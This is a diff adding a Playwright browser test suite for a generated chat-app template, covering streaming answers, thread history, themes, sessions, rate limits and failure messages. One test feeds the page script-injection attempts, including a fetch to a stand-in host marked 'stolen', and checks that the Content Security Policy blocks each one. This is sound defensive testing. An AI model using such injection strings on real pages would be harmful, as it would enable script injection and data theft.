@@ -1,0 +1,565 @@
+"""A generated project's page in a real browser, against its real server and database.
+
+OpenAI's element is served by its CDN alone; `browser/standin.js` takes its place and says what
+that cannot prove.
+"""
+
+import re
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import pytest
+from chromium import ChatPage, Visitor, launched, message, website
+from conftest import BakedProject, generate
+from playwright.sync_api import Browser, Route, expect
+from serving import START, Application
+
+pytestmark = pytest.mark.slow
+
+NOBODY = "postgresql+asyncpg://nobody@127.0.0.1:9/nothing"
+REMEMBER = "Remember that our launch is on Friday"
+# The demo model, as fast as a test wants it; `[demo:slow]` takes about three seconds to answer.
+SETTINGS = {
+    "DEMO_DELAY_SECONDS": "0.006",
+    "MODELS": "first-model,second-model",
+    "FRAME_ANCESTORS": "http://allowed.localhost:*",
+}
+
+Serve = Callable[..., Application]
+Visit = Callable[[Application], Visitor]
+
+
+@pytest.fixture(scope="session")
+def browser() -> Iterator[Browser]:
+    with launched() as browser:
+        yield browser
+
+
+@pytest.fixture(scope="session")
+def project(
+    browser: Browser, template: Path, tmp_path_factory: pytest.TempPathFactory
+) -> Iterator[BakedProject]:
+    folder = tmp_path_factory.mktemp("browser")
+    project = generate(template, folder, CHATKIT_SETUP="strict")
+
+    yield project
+
+    project.run("python", "-m", "app", "db", "stop")
+
+
+@pytest.fixture(scope="session")
+def serve(project: BakedProject, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Serve]:
+    """Serves the project on its own database: `serve(TURNS_PER_MINUTE="1")`."""
+    url = project.run("python", "-c", START).splitlines()[-1]
+    servers = []
+
+    def serve(**settings: str) -> Application:
+        environment = SETTINGS | {"DATABASE_URL": url} | settings
+        servers.append(Application(project, environment, tmp_path_factory.mktemp("log")))
+        servers[-1].start()
+        return servers[-1]
+
+    yield serve
+
+    for server in servers:
+        server.stop()
+
+
+@pytest.fixture(scope="session")
+def server(serve: Serve) -> Application:
+    """The one that tests share."""
+    return serve()
+
+
+@pytest.fixture
+def visit(browser: Browser) -> Iterator[Visit]:
+    """Somebody new at an application. Whatever their console complained of fails the test."""
+    visitors = []
+
+    def visit(application: Application) -> Visitor:
+        context = browser.new_context(base_url=application.url, locale="en-US")
+        visitors.append(Visitor(context))
+        return visitors[-1]
+
+    yield visit
+
+    for visitor in visitors:
+        visitor.context.close()
+    assert [line for visitor in visitors for line in visitor.complaints()] == []
+
+
+@pytest.fixture
+def visitor(visit: Visit, server: Application) -> Visitor:
+    return visit(server)
+
+
+@pytest.fixture
+def chat(visitor: Visitor) -> ChatPage:
+    return visitor.tab()
+
+
+def test_the_first_visit(chat: ChatPage) -> None:
+    chat.open()
+
+    expect(chat.page).to_have_title("My Chat App")
+    expect(chat.page.get_by_role("heading", name="Hello! How can I help?")).to_be_visible()
+    expect(chat.page.get_by_text("A built-in model answers")).to_be_visible()
+    expect(chat.page.get_by_text("Assistant can make mistakes.")).to_be_visible()
+    expect(chat.button("Notes")).to_be_visible()
+    expect(chat.problem).to_be_empty()
+    expect(chat.page.get_by_text("Opening the chat…")).to_be_hidden()
+    assert chat.heard("ready") == [None]
+
+
+def test_an_answer_streams_with_its_workflow(chat: ChatPage) -> None:
+    chat.open().say(REMEMBER)
+
+    expect(chat.messages).to_have_text([REMEMBER])
+    expect(chat.answers).to_have_count(1)
+    expect(chat.answers).to_contain_text(re.compile(r"Saved as note \d+\."))
+    tasks = chat.workflows.locator("li[data-status=complete]")
+    expect(tasks).to_have_text(["Analyzing request", "Saving a note"])
+    expect(chat.workflows.locator("details")).not_to_have_attribute("open", "")
+    [thread] = chat.heard("thread.change")
+    assert thread["threadId"].startswith("thr")
+
+
+def test_a_prompt_of_the_start_screen_is_sent(chat: ChatPage) -> None:
+    chat.open()
+
+    with chat.heard_next("response.end"):
+        chat.button("What can you do?").click()
+
+    expect(chat.messages).to_have_text(["What can you help me with?"])
+
+
+def test_the_history_names_renames_opens_and_deletes(chat: ChatPage) -> None:
+    chat.open().say("Tell me about the weather in a faraway country, and about its food")
+    chat.button("New chat").click()
+    chat.say("hello")
+
+    chat.button("History").click()
+    history = chat.page.get_by_role("list", name="History").get_by_role("listitem")
+    expect(history.get_by_role("button").nth(0)).to_have_text("hello")
+    older = history.nth(1)
+    expect(older.get_by_role("button").first).to_have_text(
+        "Tell me about the weather in a faraway country,..."
+    )
+    older.get_by_label("Title").fill("Weather")
+    with chat.answered("threads.update"):
+        older.get_by_role("button", name="Rename").click()
+    expect(chat.button("Weather")).to_be_visible()
+
+    with chat.heard_next("thread.load.end"):
+        chat.button("Weather").click()
+    expect(chat.messages).to_have_text([re.compile("faraway country")])
+
+    chat.button("History").click()
+    with chat.answered("threads.delete"):
+        history.filter(has_text="hello").get_by_role("button", name="Delete").click()
+    expect(history).to_have_count(1)
+
+
+def test_feedback_reaches_the_server(chat: ChatPage) -> None:
+    chat.open().say("hello")
+
+    with chat.answered("items.feedback"):
+        chat.button("Bad answer").click()
+
+    [feedback] = chat.sent("items.feedback")
+    assert feedback["params"]["kind"] == "negative"
+
+
+def test_a_retry_replaces_the_answer(chat: ChatPage) -> None:
+    chat.open().say("hello")
+    first = chat.answers.get_attribute("data-item")
+
+    with chat.heard_next("response.end"):
+        chat.button("Try again").click()
+
+    expect(chat.answers).to_have_count(1)
+    assert chat.answers.get_attribute("data-item") != first
+    chat.reload()
+    expect(chat.messages).to_have_count(1)
+    expect(chat.answers).to_have_count(1)
+
+
+def test_a_stopped_answer_keeps_what_was_said(chat: ChatPage) -> None:
+    chat.open()
+    chat.send("hello [demo:slow]")
+    expect(chat.answers).to_contain_text("You said")
+
+    with (
+        chat.page.expect_response(re.compile(r"/chatkit/runs/[^/]+/stop$")) as stopped,
+        chat.heard_next("response.end"),
+    ):
+        chat.button("Stop").click()
+
+    assert stopped.value.status == 204
+    chat.reload()
+    expect(chat.answers).to_contain_text("You said")
+    expect(chat.answers).not_to_contain_text("Tools that you can try")
+    chat.say("and now?")
+    expect(chat.answers).to_have_count(2)
+
+
+def test_an_answer_goes_on_while_the_page_is_reloaded(chat: ChatPage) -> None:
+    chat.open()
+    chat.send("hello [demo:slow]")
+    expect(chat.answers).to_contain_text("You said")
+
+    chat.reload()
+
+    expect(chat.answers).to_contain_text("You said")
+    expect(chat.answers).not_to_contain_text("Remember that our launch")
+    expect(chat.answers).to_contain_text("Remember that our launch is on Friday")
+    expect(chat.answers).to_have_count(1)
+
+
+def test_the_tool_menu(chat: ChatPage) -> None:
+    chat.open()
+    chat.page.get_by_label("Tool", exact=True).select_option(label="Notes")
+
+    expect(chat.composer).to_have_attribute("placeholder", "Remember, list, find or delete a note")
+    chat.say("anything")
+
+    [request] = chat.sent("threads.create")
+    assert request["params"]["input"]["inference_options"]["tool_choice"] == {"id": "notes"}
+    expect(chat.workflows).to_contain_text("Reading your notes")
+
+
+def test_the_hosts_own_buttons_choose_a_tool(chat: ChatPage) -> None:
+    chat.open()
+    chat.page.evaluate("window.chat.selectTool('notes')")
+
+    chat.say("anything")
+
+    [request] = chat.sent("threads.create")
+    assert request["params"]["input"]["content"][0]["text"] == "[TOOL:notes] anything"
+    expect(chat.messages).to_have_text(["anything"])
+    expect(chat.workflows).to_contain_text("Reading your notes")
+
+
+def test_the_model_picker(chat: ChatPage) -> None:
+    chat.open()
+    model = chat.page.get_by_label("Model", exact=True)
+    expect(model).to_have_value("first-model")
+    model.select_option("second-model")
+
+    chat.say("hello")
+
+    [request] = chat.sent("threads.create")
+    assert request["params"]["input"]["inference_options"]["model"] == "second-model"
+
+
+def test_the_systems_scheme_switches_page_and_chat_together(chat: ChatPage) -> None:
+    chat.open()
+    body = chat.page.locator("body")
+    element = chat.page.locator("openai-chatkit")
+    expect(element).to_have_attribute("data-scheme", "light")
+    light = body.evaluate("body => getComputedStyle(body).backgroundColor")
+
+    chat.page.emulate_media(color_scheme="dark")
+
+    expect(element).to_have_attribute("data-scheme", "dark")
+    assert body.evaluate("body => getComputedStyle(body).backgroundColor") != light
+
+
+def test_the_button_in_the_header_switches_both_and_is_remembered(visitor: Visitor) -> None:
+    chat = visitor.tab().open()
+    element = chat.page.locator("openai-chatkit")
+    button = chat.button("Dark colours")
+    expect(button).to_have_attribute("aria-pressed", "false")
+
+    button.click()
+
+    expect(button).to_have_attribute("aria-pressed", "true")
+    expect(element).to_have_attribute("data-scheme", "dark")
+    other = visitor.tab().open()
+    expect(other.page.locator("openai-chatkit")).to_have_attribute("data-scheme", "dark")
+    expect(other.page.locator("html")).to_have_css("color-scheme", "dark")
+
+    button.click()
+    expect(element).to_have_attribute("data-scheme", "light")
+
+
+def test_a_bad_value_in_the_theme_is_named_and_ignored(chat: ChatPage) -> None:
+    def with_bad_radius(route: Route) -> None:
+        css = route.fetch().text()
+        route.fulfill(
+            body=css.replace("--chat-radius: round", "--chat-radius: square"),
+            content_type="text/css",
+        )
+
+    chat.page.route("**/static/theme.css", with_bad_radius)
+
+    chat.open()
+
+    chat.expect_complaint("--chat-radius: square is ignored, because it is not one of pill")
+
+
+def test_the_url_names_the_thread(visitor: Visitor) -> None:
+    chat = visitor.tab().open().say("first")
+    thread = chat.heard("thread.change")[0]["threadId"]
+    expect(chat.page).to_have_url(f"/?thread={thread}")
+
+    chat.button("New chat").click()
+    expect(chat.page).to_have_url("/")
+    chat.say("second")
+
+    linked = visitor.tab().open(f"/?thread={thread}")
+    expect(linked.messages).to_have_text(["first"])
+
+
+def test_a_thread_of_somebody_else_is_dropped_from_the_url(
+    chat: ChatPage, visit: Visit, server: Application
+) -> None:
+    theirs = visit(server).tab().open().say("a secret")
+    path = theirs.page.url.removeprefix(server.url)
+
+    chat.open(path)
+
+    expect(chat.page).to_have_url("/")
+    expect(chat.page.get_by_role("heading", name="Hello! How can I help?")).to_be_visible()
+    chat.expect_complaint("404")
+
+
+def test_the_site_around_it_drives_the_chat(chat: ChatPage) -> None:
+    chat.page.goto("/")
+    chat.page.evaluate("window.chat.send('hello', { tool: 'notes' })")
+    chat.when_ready()
+    expect(chat.workflows).to_contain_text("Reading your notes")
+    expect(chat.answers).to_have_count(1)
+
+    # While that answer may still stream.
+    chat.page.evaluate("window.chat.newThread()")
+    expect(chat.messages).to_have_count(0)
+
+    chat.page.evaluate("window.chat.close()")
+    expect(chat.composer).to_be_hidden()
+    chat.page.evaluate("window.chat.open()")
+    expect(chat.composer).to_be_focused()
+
+
+def test_a_link_in_an_answer_calls_the_sites_function(chat: ChatPage) -> None:
+    chat.open()
+    chat.page.evaluate("""window.chatPage = {
+        deeplinks: { order: ({ id }) => { document.title = `Order ${id}`; } },
+    }""")
+
+    chat.say("see [your order](chatkit-link://order?id=7) and [this](chatkit-link://nothing)")
+    chat.answers.get_by_role("button", name="your order").click()
+    expect(chat.page).to_have_title("Order 7")
+
+    chat.answers.get_by_role("button", name="this", exact=True).click()
+    expect(chat.page).to_have_title("Order 7")
+    chat.expect_complaint("deeplink nothing")
+
+
+def test_the_site_tells_the_model_what_its_page_shows(chat: ChatPage) -> None:
+    chat.open()
+    chat.page.evaluate("window.chat.setContext({ order: '7' })")
+
+    chat.say("what is this?")
+
+    [request] = chat.sent("threads.create")
+    assert request["metadata"] == {"page": {"order": "7"}}
+    expect(chat.answers).to_contain_text("You said: “what is this?”")
+
+
+def test_a_page_that_does_not_work_says_so_in_the_servers_log(
+    visitor: Visitor, chat: ChatPage, server: Application
+) -> None:
+    visitor.cdn.frame = "<!doctype html>"
+    chat.page.clock.install()
+    chat.page.goto("/")
+    expect(chat.page.get_by_role("heading", name="Hello! How can I help?")).to_be_visible()
+
+    chat.page.clock.fast_forward(11_000)
+    with chat.page.expect_response("**/telemetry") as reported:
+        chat.page.clock.fast_forward(3_000)
+
+    assert reported.value.status == 204
+    assert "in a page: problem notReady session=session-" in server.log
+
+
+def test_a_session_is_a_tab_and_survives_reloads(visitor: Visitor) -> None:
+    first, second = visitor.tab().open(), visitor.tab().open()
+    first.say("one")
+    first.reload().say("two")
+    second.button("New chat").click()
+    second.say("three")
+
+    def sessions(tab: ChatPage) -> set[str]:
+        requests = tab.sent("threads.create") + tab.sent("threads.add_user_message")
+        return {request["session_id"] for request in requests}
+
+    [one], [two] = sessions(first), sessions(second)
+    assert re.fullmatch(r"session-\d+-[0-9a-f]{20}", one)
+    assert one != two
+
+
+def test_the_thread_is_restored(visitor: Visitor) -> None:
+    chat = visitor.tab().open().say("hello")
+
+    chat.reload()
+    expect(chat.messages).to_have_text(["hello"])
+
+    other = visitor.tab().open()
+    expect(other.messages).to_have_text(["hello"])
+
+
+def test_a_thread_that_is_gone_is_forgotten(visitor: Visitor) -> None:
+    chat = visitor.tab().open().say("hello")
+    [thread] = chat.heard("thread.change")
+    chat.post("threads.delete", thread_id=thread["threadId"])
+
+    chat.reload()
+
+    expect(chat.page.get_by_role("heading", name="Hello! How can I help?")).to_be_visible()
+    chat.expect_complaint("404")
+    chat.say("hello again")
+
+
+def test_a_limit_is_told_with_the_time_until_it_ends(chat: ChatPage) -> None:
+    chat.open()
+    for _ in range(20):
+        chat.post("threads.create", input=message("hi"))
+
+    with chat.answered("threads.create", 429):
+        chat.send("one too many")
+
+    expect(chat.notice).to_contain_text("minute")
+    expect(chat.page.locator("#notice [role=timer]")).to_have_text(re.compile(r"^0:\d\d$"))
+    chat.expect_complaint("429")
+    chat.button("Dismiss").click()
+    expect(chat.notice).to_be_empty()
+
+
+def test_a_message_that_is_too_long_is_refused_in_words(chat: ChatPage) -> None:
+    chat.open()
+
+    with chat.answered("threads.create", 413):
+        chat.send("x" * 20_001)
+
+    expect(chat.notice).to_contain_text("20000 characters")
+    chat.expect_complaint("413")
+
+
+@pytest.mark.parametrize(
+    "break_in",
+    [
+        "script.textContent = 'window.broken = true'",
+        "script.src = 'data:text/javascript,window.broken = true'",
+        "script.src = 'https://elsewhere.example/script.js'",
+        "document.body.setAttribute('onclick', 'window.broken = true'); document.body.click()",
+        "fetch('https://elsewhere.example/?stolen').catch(() => {})",
+        "document.body.append(Object.assign(document.createElement('iframe'), "
+        "{ src: 'https://elsewhere.example/' }))",
+    ],
+)
+def test_what_the_page_did_not_bring_does_not_run(chat: ChatPage, break_in: str) -> None:
+    chat.open()
+
+    with chat.page.expect_console_message(lambda m: "Content Security Policy" in m.text):
+        chat.page.evaluate(f"""() => {{
+            const script = document.createElement("script");
+            {break_in};
+            document.body.append(script);
+        }}""")
+
+    assert chat.page.evaluate("window.broken") is None
+    chat.expect_complaint("Content Security Policy")
+
+
+@pytest.mark.parametrize(("site", "headings"), [("allowed", ["My Chat App"]), ("other", [])])
+def test_only_a_named_site_can_frame_the_page(
+    chat: ChatPage, server: Application, site: str, headings: list[str]
+) -> None:
+    with website(f'<iframe src="{server.url}"></iframe>') as port:
+        chat.page.goto(f"http://{site}.localhost:{port}/")
+        frame = chat.page.frames[1]
+        frame.wait_for_load_state()
+
+    expect(frame.get_by_role("heading", name="My Chat App")).to_have_text(headings)
+    if not headings:
+        chat.expect_complaint("frame-ancestors")
+
+
+# --- When it cannot work ----------------------------------------------------------------------
+
+
+def test_the_script_is_blocked(visitor: Visitor, chat: ChatPage) -> None:
+    visitor.cdn.script = None
+
+    chat.page.goto("/")
+
+    expect(chat.problem).to_contain_text("The chat could not be loaded")
+    expect(chat.problem).to_contain_text("Allow cdn.platform.openai.com")
+    chat.expect_complaint("chatkit.js")
+
+
+def test_the_script_loads_and_never_defines_the_element(visitor: Visitor, chat: ChatPage) -> None:
+    visitor.cdn.script = "// a proxy's idea of a script"
+    chat.page.clock.install()
+
+    chat.page.goto("/", wait_until="load")
+    expect(chat.problem).to_be_empty()
+    chat.page.clock.fast_forward(6_000)
+
+    expect(chat.problem).to_contain_text("The chat could not start")
+
+
+def test_the_frame_is_never_ready(visitor: Visitor, chat: ChatPage) -> None:
+    visitor.cdn.frame = "<!doctype html>"
+    chat.page.clock.install()
+
+    chat.page.goto("/")
+    expect(chat.page.get_by_role("heading", name="Hello! How can I help?")).to_be_visible()
+    chat.page.clock.fast_forward(11_000)
+
+    expect(chat.problem).to_contain_text("The chat did not open")
+    link = chat.problem.get_by_role("link", name="Open the domain allow-list")
+    expect(link).to_have_attribute("href", re.compile(r"^https://platform\.openai\.com/settings/"))
+
+
+def test_the_server_goes_away_and_comes_back(serve: Serve, visit: Visit) -> None:
+    server = serve()
+    chat = visit(server).tab().open()
+    server.stop()
+
+    chat.send("hello?")
+    expect(chat.problem).to_contain_text("The server does not answer")
+    expect(chat.problem).to_contain_text("python -m app doctor")
+    chat.expect_complaint("ERR_CONNECTION_REFUSED|Failed to fetch")
+
+    server.start()
+    chat.say("hello!")
+    expect(chat.problem).to_be_empty()
+    server.stop()
+
+
+def test_a_browser_that_keeps_no_cookie(visitor: Visitor, chat: ChatPage) -> None:
+    def without_cookie(route: Route) -> None:
+        response = route.fetch()
+        visitor.context.clear_cookies()
+        headers = {k: v for k, v in response.headers.items() if k != "set-cookie"}
+        route.fulfill(response=response, headers=headers)
+
+    chat.page.route("**/config.json", without_cookie)
+
+    chat.page.goto("/")
+
+    expect(chat.problem).to_contain_text("You are not signed in")
+    expect(chat.problem).to_contain_text("cookies")
+
+
+def test_the_database_is_down(serve: Serve, visit: Visit) -> None:
+    server = serve(DATABASE_URL=NOBODY, DATABASE_PATIENCE_SECONDS="0")
+    chat = visit(server).tab().open()
+
+    chat.send("hello?")
+
+    expect(chat.problem).to_contain_text("The database does not answer")
+    chat.expect_complaint("503")
+    server.stop()
